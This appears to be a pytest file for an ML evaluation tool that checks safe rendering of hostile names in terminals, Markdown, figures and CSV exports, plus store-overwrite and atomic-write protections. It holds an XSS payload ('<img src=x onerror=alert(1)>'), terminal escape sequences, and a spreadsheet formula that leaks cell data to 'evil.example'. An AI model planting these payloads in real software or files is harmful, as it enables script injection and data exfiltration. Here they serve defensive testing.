"""Issue 22, hostile output: user strings (class, model and folder names, the command line) that
are rich markup, terminal escapes, mathtext, Markdown/HTML or spreadsheet formulas; output paths
that point into the run's store; writes cut short; numeric options that cannot train.

Each run here is tiny (logistic regression and a small MLP head, 2 folds, 1 epoch) and its names
are the attack."""

import contextlib
import csv
import hashlib
import io
import os
import re
import shutil
import subprocess
import sys
import warnings
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console

import cvkit
from cvkit import escape, files
from cvkit.cli import main
from cvkit.data import Dataset
from cvkit.report import render_comparison, render_summary, write_reports
from cvkit.results import Results

NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
NO_DEADLINE = settings(deadline=None)  # a busy shared machine; the first example imports matplotlib
ESCAPES = "\x1b[2J\x1b]0;PWNED\x07"


def _run(tiny, root: Path, classes, variant: str, sample_ids=None):
    """A run of logreg against the MLP head example saved as ``variant``.py, on data with ``classes``."""
    root.mkdir(parents=True, exist_ok=True)
    plugin = root / f"{variant}.py"
    shutil.copy("plugins/mlp_head.py", plugin)
    data = Dataset(
        tiny.images,
        tiny.labels,
        tuple(classes),
        1,
        tiny.sample_ids if sample_ids is None else np.array(sample_ids),
        name="tiny",
    )
    with warnings.catch_warnings():  # the example's search space, unused without --nested
        warnings.simplefilter("ignore")
        results = cvkit.evaluate(
            str(plugin), data=data, baseline="logreg", folds=2, repeats=1, epochs=1, out=root / "run"
        )
    return results, cvkit.compare(results)


def _terminal_text(results, report) -> str:
    console = Console(file=io.StringIO(), width=200)
    render_summary(results, console)
    render_comparison(report, console)
    return console.file.getvalue()


@pytest.fixture(scope="module")
def markup_run(tiny, tmp_path_factory):
    """A positive class and a model whose names hold [words] that rich reads as styles."""
    root = tmp_path_factory.mktemp("markup")
    return _run(tiny, root, ("benign", "malignant [confirmed]"), "head[bold]x:cat:")


@pytest.fixture(scope="module")
def closing_tag_run(tiny, tmp_path_factory):
    """A positive class named like a closing tag with nothing open."""
    return _run(tiny, tmp_path_factory.mktemp("closing"), ("benign", "mal[/]"), "head")


@pytest.fixture(scope="module")
def escapes_run(tiny, tmp_path_factory):
    """A class name that clears the screen and retitles the terminal window."""
    return _run(tiny, tmp_path_factory.mktemp("escapes"), ("benign", f"bad{ESCAPES}"), "head")


# Item 13: user strings parsed as rich markup.


def test_markup_in_names_is_printed_as_written(markup_run):
    text = " ".join(_terminal_text(*markup_run).split())  # table titles wrap
    # main dropped the [words] in table titles and headers: "malignant", "headx"
    assert text.count("malignant") == text.count("malignant [confirmed]") > 0
    assert "headx" not in text and text.count("head[bold]x") >= 5


def test_emoji_codes_in_names_are_printed_as_written(markup_run, capsys):
    results, _ = markup_run
    assert main(["report", str(results.run_dir), "--md"]) == 0
    out = capsys.readouterr().out
    assert "head[bold]x:cat:" in out and "\N{CAT FACE}" not in out  # main: "headx🐱" (rich's emoji codes)


def test_a_closing_tag_in_a_name_neither_crashes_training_nor_report(closing_tag_run, capsys):
    results, report = closing_tag_run
    assert "mal[/]" in _terminal_text(results, report)  # main: MarkupError
    assert main(["report", str(results.run_dir), "--md"]) == 0
    assert "positive class = mal[/]" in capsys.readouterr().out


# Item 19: terminal escapes in names.


def test_terminal_output_holds_no_control_characters_from_names(escapes_run):
    text = _terminal_text(*escapes_run)
    assert "\x1b" not in text and "\x07" not in text  # a plain console adds no escapes of its own
    assert "bad\\x1b[2J\\x1b]0;PWNED\\x07" in text  # shown, visibly


HOSTILE_OUT = "style[v2]`<img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def tiny_archive(tiny, tmp_path_factory):
    """The tiny set as a BreastMNIST-style archive, for the command line."""
    archive = tmp_path_factory.mktemp("archive") / "breastmnist_tiny.npz"
    images, labels = tiny.images[:, 0], 1 - tiny.labels[:, None]
    parts = {"train": slice(0, 40), "val": slice(40, 50), "test": slice(50, None)}
    arrays = {f"{part}_images": images[rows] for part, rows in parts.items()}
    arrays.update({f"{part}_labels": labels[rows] for part, rows in parts.items()})
    np.savez(archive, **arrays)
    return archive


def _evaluate_args(archive) -> list[str]:
    return ["evaluate", "--baseline", "logreg", "--data", str(archive), "--folds", "2", "--repeats", "1"]


@pytest.fixture(scope="module")
def cli_run(tiny_archive, tmp_path_factory):
    """`cvkit evaluate` into a run folder whose name is rich markup, a backtick and an HTML tag."""
    out = tmp_path_factory.mktemp("cli") / HOSTILE_OUT
    args = _evaluate_args(tiny_archive)
    stdout = io.StringIO()
    with contextlib.redirect_stdout(stdout):
        code = main([*args, "--epochs", "1", "--out", str(out), "--report", "md"])
    return code, stdout.getvalue(), out


def test_run_folder_with_brackets_is_printed_as_written(cli_run):
    code, stdout, out = cli_run
    assert code == 0
    # main printed "results in .../style`<img ...>" and "reports: .../style`<img ...>/report.md"
    assert f"results in {out}" in stdout.replace("\n", "")
    assert f"{out / 'report.md'}" in stdout.replace("\n", "")


# Item 14: names that are matplotlib mathtext.


@pytest.fixture(scope="module")
def mathtext_run(tiny, tmp_path_factory):
    return _run(tiny, tmp_path_factory.mktemp("mathtext"), ("benign", "$\\bad$"), "v$\\bad$")


def test_mathtext_in_names_does_not_break_the_figures(mathtext_run):
    results, report = mathtext_run
    written = write_reports(results, report, ["md"])  # main: ValueError, Unknown symbol: \bad
    figures = sorted((written["md"].parent / "figures").glob("*.png"))
    assert len(figures) >= 6 and all(f.stat().st_size > 1000 for f in figures)


@NO_DEADLINE
@given(st.text(st.characters(blacklist_categories=("Cc",)), max_size=30))
def test_matplotlib_shows_escaped_text_literally(text):
    from matplotlib.text import Text

    assert Text()._preprocess_math(escape.mathtext(text)) == (text, False)


# Item 19: terminal escapes in the documents.


def test_documents_hold_no_control_characters_from_names(escapes_run):
    results, report = escapes_run
    written = write_reports(results, report)
    for path in written.values():  # main: the escapes landed raw in all three
        text = path.read_text()
        assert "\x1b" not in text and "\x07" not in text, path.name
        assert "PWNED" in text, path.name  # the name is shown, written out


# Item 20: the command line in report.md.


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.code, self.text, self._in_code = [], [], [], False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_code = self._in_code or tag == "code"

    def handle_endtag(self, tag):
        self._in_code = self._in_code and tag != "code"

    def handle_data(self, data):
        if data.strip():
            self.text.append(data)
        if self._in_code:
            self.code.append(data)


def _rendered_markdown(text: str) -> _Tags:
    """What a CommonMark viewer (raw HTML allowed, as GitHub's and most editors' are) makes of ``text``."""
    tags = _Tags()
    tags.feed(MarkdownIt("commonmark").render(text))
    return tags


def test_command_line_in_markdown_is_a_code_span_not_live_html(cli_run):
    _, _, out = cli_run
    md = (out / "report.md").read_text()
    command = Results(out).run["command"]
    assert "`<img src=x onerror=alert(1)>" in command
    rendered = _rendered_markdown(md)
    assert not [attrs for tag, attrs in rendered.tags if "onerror" in attrs]  # main: a live <img onerror>
    assert command in rendered.code  # shown whole, as written


@NO_DEADLINE
@given(st.text(st.characters(blacklist_categories=("Cc",)), min_size=1, max_size=30))
def test_markdown_code_span_shows_any_text_literally(text):
    assert _rendered_markdown(escape.markdown_code(text)).code == [text]


@NO_DEADLINE
@given(st.text(st.characters(blacklist_categories=("Cc", "Zs", "Zl", "Zp")), min_size=1, max_size=30))
def test_markdown_text_shows_any_text_literally(text):
    """In a table cell and in a paragraph: no element, and the text as written."""
    md = f"| a |\n|---|\n| x {escape.markdown(text)} |\n\nx {escape.markdown(text)}\n"
    rendered = _Tags()
    rendered.feed(MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(md))
    assert [tag for tag, _ in rendered.tags] == ["table", "thead", "tr", "th", "tbody", "tr", "td", "p"]
    assert rendered.text == ["a", f"x {text}", f"x {text}"]


# Item 21: CSV formula injection.

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def formula_run(tiny, tmp_path_factory):
    """A class, a model and sample ids that a spreadsheet would run as formulas."""
    starts = ("@SUM(1+1)", "+1+1", "-2+3", "\t=1", "\r=1", "=1")
    ids = ["-3", "+4.5e2"] + [starts[i % 6] + f"#{i}" for i in range(2, len(tiny))]  # plain numbers first
    return _run(tiny, tmp_path_factory.mktemp("formula"), ("benign", FORMULA), "-cmd", sample_ids=ids)


def test_exported_csv_cells_never_start_a_formula(formula_run, tmp_path):
    results, _ = formula_run
    path = tmp_path / "predictions.csv"
    assert main(["export", str(results.run_dir), "--predictions", str(path)]) == 0
    with open(path, newline="") as f:
        rows = list(csv.reader(f))
    cells = [cell for row in rows for cell in row]
    risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(c)]
    assert risky == []  # main: the class, the model and the sample ids as written
    assert "'" + FORMULA in cells and "'-cmd" in cells and "'@SUM(1+1)#6" in cells
    assert {"-3", "+4.5e2"} <= set(cells)


@pytest.fixture(scope="module")
def plain_run(tiny, tmp_path_factory):
    return _run(tiny, tmp_path_factory.mktemp("plain"), ("benign", "malignant"), "head")


@pytest.fixture(scope="module")
def store_run(tiny, tmp_path_factory):
    """A run of its own: on main the store tests destroy it."""
    return _run(tiny, tmp_path_factory.mktemp("store"), ("benign", "malignant"), "head")


def _digest(folder: Path) -> dict:
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir()) if p.is_file()
    }


# Item 16: an output path into the run's store.


@pytest.mark.parametrize(
    "command, target",
    [
        (["export", "{run}", "--predictions"], "cvkit.sqlite"),
        (["export", "{run}", "--json"], "cvkit.sqlite"),
        (["compare", "{run}", "--json"], "cvkit.sqlite"),
        (["report", "{run}", "--latex", "--json"], "cvkit.sqlite-wal"),
        (["export", "{run}", "--predictions"], "link to cvkit.sqlite"),
        (["compare", "{run}", "--json"], "hard link to cvkit.sqlite"),
    ],
)
def test_no_output_path_may_point_into_the_run_store(store_run, tmp_path, capsys, command, target):
    results, _ = store_run
    run = results.run_dir
    store = run / "cvkit.sqlite"
    if target.startswith("link"):
        path = tmp_path / "out.csv"
        path.symlink_to(store)
    elif target.startswith("hard link"):
        path = tmp_path / "out.json"
        os.link(store, path)
    else:
        path = run / target
    before = _digest(run)
    capsys.readouterr()
    assert main([part.format(run=run) for part in command] + [str(path)]) == 2  # main: 0, store overwritten
    error = capsys.readouterr().err
    assert error.count("\n") == 1 and f"{path} is the run's store" in error
    assert _digest(run) == before
    assert len(Results(run).jobs) == 4  # the store still reads


def test_evaluate_refuses_a_json_path_into_its_store_before_training(tiny_archive, tmp_path, capsys):
    out = tmp_path / "run"
    store = out / "cvkit.sqlite"
    args = [*_evaluate_args(tiny_archive), "--epochs", "1", "--out", str(out), "--json", str(store)]
    assert main(args) == 2  # main: trained, then wrote the JSON summary over the store, exit 0
    assert "is the run's store" in capsys.readouterr().err and not out.exists()


def test_mlflow_export_into_the_run_store_is_refused(store_run, capsys):
    pytest.importorskip("mlflow")
    results, _ = store_run
    before = _digest(results.run_dir)
    uri = f"sqlite:///{results.run_dir / 'cvkit.sqlite'}"
    # main: exit 0, MLflow's tables created inside cvkit.sqlite
    assert main(["export", "mlflow", str(results.run_dir), "--tracking-uri", uri]) == 2
    assert "is the run's store" in capsys.readouterr().err
    assert _digest(results.run_dir) == before


# Item 17: writes cut short leave the old file whole.


def test_atomic_write_keeps_the_old_file_when_the_writer_fails(tmp_path):
    target = tmp_path / "table.csv"
    target.write_text("a,b\n1,2\n")

    class Midway(Exception):
        pass

    with pytest.raises(Midway):
        with files.atomic_write(target) as f:
            f.write("a,b\n" + "3,4\n" * 1000)
            raise Midway
    assert target.read_text() == "a,b\n1,2\n" and sorted(tmp_path.iterdir()) == [target]


def test_atomic_write_goes_through_a_symbolic_link_and_keeps_permissions(tmp_path):
    target = tmp_path / "summary.json"
    target.write_text("old")
    target.chmod(0o640)
    link = tmp_path / "latest.json"
    link.symlink_to(target)
    files.write_text(link, "new")
    assert link.is_symlink() and target.read_text() == "new" and target.stat().st_mode & 0o777 == 0o640
    files.write_text(tmp_path / "fresh.txt", "x")
    umask = os.umask(0)
    os.umask(umask)
    assert (tmp_path / "fresh.txt").stat().st_mode & 0o777 == 0o666 & ~umask  # not mkstemp's 0o600


FILE_SIZE_LIMITED = """
import resource, signal, sqlite3, sys
from cvkit.cli import main
# The store's shared-memory file (32 KiB) is made before the limit, and kept by this connection.
store = sqlite3.connect(sys.argv[2])
store.execute("SELECT count(*) FROM sqlite_master").fetchall()
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit then fails with EFBIG
resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[1]), resource.RLIM_INFINITY))
sys.exit(main(sys.argv[3:]))
"""


@pytest.mark.parametrize("output", ["csv", "html"])
def test_a_file_size_limit_mid_write_leaves_the_good_file_untouched(plain_run, tmp_path, output):
    results, _ = plain_run
    run = results.run_dir
    if output == "csv":
        path = tmp_path / "predictions.csv"
        args = ["export", str(run), "--predictions", str(path)]
    else:
        path = run / "report.html"
        args = ["report", str(run), "--html"]
    assert main(args) == 0
    good = path.read_bytes()
    folder_before = sorted(path.parent.iterdir())
    limited = subprocess.run(
        [sys.executable, "-c", FILE_SIZE_LIMITED, str(len(good) // 2), str(run / "cvkit.sqlite"), *args],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert limited.returncode == 2, limited.stderr[-2000:]
    assert limited.stderr.count("\n") == 1 and "cannot write" in limited.stderr
    assert path.read_bytes() == good  # main: cut mid-row / a truncated report.html
    assert sorted(path.parent.iterdir()) == folder_before  # no temporary file left behind


# Item 18 (its numeric options): refused up front, before any store exists.


@pytest.mark.parametrize(
    "option",
    [
        ["--lr", "-0.01"],
        ["--lr", "nan"],
        ["--lr", "inf"],
        ["--weight-decay", "-1"],
        ["--weight-decay", "nan"],
        ["--rope", "nan"],
        ["--rope", "-0.1"],
        ["--alpha", "2"],
        ["--threads-per-job", "0"],
        ["--gpus-per-job", "nan"],
        ["--cpus-per-job", "-1"],
    ],
)
def test_invalid_numeric_options_are_refused_before_a_store_exists(tiny_archive, tmp_path, capsys, option):
    out = tmp_path / "run"
    args = [*_evaluate_args(tiny_archive), "--epochs", "1", "--report", "none", "--out", str(out), *option]
    assert main(args) == 2  # main: exit 0 with a store (logreg), every job failed, or refused after training
    assert not out.exists()
    errors = [line for line in capsys.readouterr().err.splitlines() if line.startswith("cvkit: error:")]
    assert len(errors) == 1 and errors[0].startswith(f"cvkit: error: {option[0]} must")


def test_demo_extra_signal_must_be_finite(tmp_path, capsys):
    assert main(["evaluate", "--demo-extra-signal", "nan", "--out", str(tmp_path / "run")]) == 2
    assert "--demo-extra-signal must be a finite number" in capsys.readouterr().err  # main: "age has missing"
    assert not (tmp_path / "run").exists()


@pytest.mark.parametrize("option", [["--rope", "nan"], ["--rope", "inf"]])
def test_compare_refuses_a_nan_rope(plain_run, capsys, option):
    results, _ = plain_run
    assert main(["compare", str(results.run_dir), *option]) == 2  # main: --rope nan accepted, exit 0
    assert f"{option[0]} must" in capsys.readouterr().err


def test_progress_shows_model_names_as_written():
    from cvkit.runner import JobProgress

    console = Console(file=io.StringIO(), force_terminal=True, width=120)
    progress = JobProgress(console, epochs=1)
    job = SimpleNamespace(key="k", model="head[bold]x", repeat=0, fold=1, seed_index=0)
    with progress:
        progress.start(total=1, done=0)
        progress.job_started(job)
        progress.progress.refresh()
    shown = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", console.file.getvalue())
    assert "head[bold]x r0 f1" in shown  # main: "headx r0 f1", in bold


# The escapes themselves, on any text.


@NO_DEADLINE
@given(st.text(max_size=40))
def test_rich_markup_escape_shows_any_text_as_written(text):
    from rich.text import Text

    shown = Text.from_markup(escape.rich(text) + "[bold]!", emoji=False)
    expected = escape.printable(text, newlines=True)  # and the tag after it still works
    assert shown.plain == expected + "!" and shown.spans[-1].start == len(expected)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown.plain)


@NO_DEADLINE
@given(st.text(max_size=20))
def test_csv_cell_never_starts_a_formula_and_only_ever_adds_a_quote(text):
    cell = escape.csv_cell(text)
    assert cell in (text, "'" + text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or NUMBER.fullmatch(cell)


@NO_DEADLINE
@given(st.text(max_size=30))
def test_latex_escape_leaves_no_special_character_unescaped(text):
    escaped = escape.latex(text)
    bare = re.sub(
        r"\\(textbackslash|textasciitilde|textasciicircum|textless|textgreater)\{\}|\\[&%$#_{}]", "", escaped
    )
    assert not re.search(r"[\\&%$#_{}~^<>\x00-\x08\x0a-\x1f]", bare)  # a tab is white space
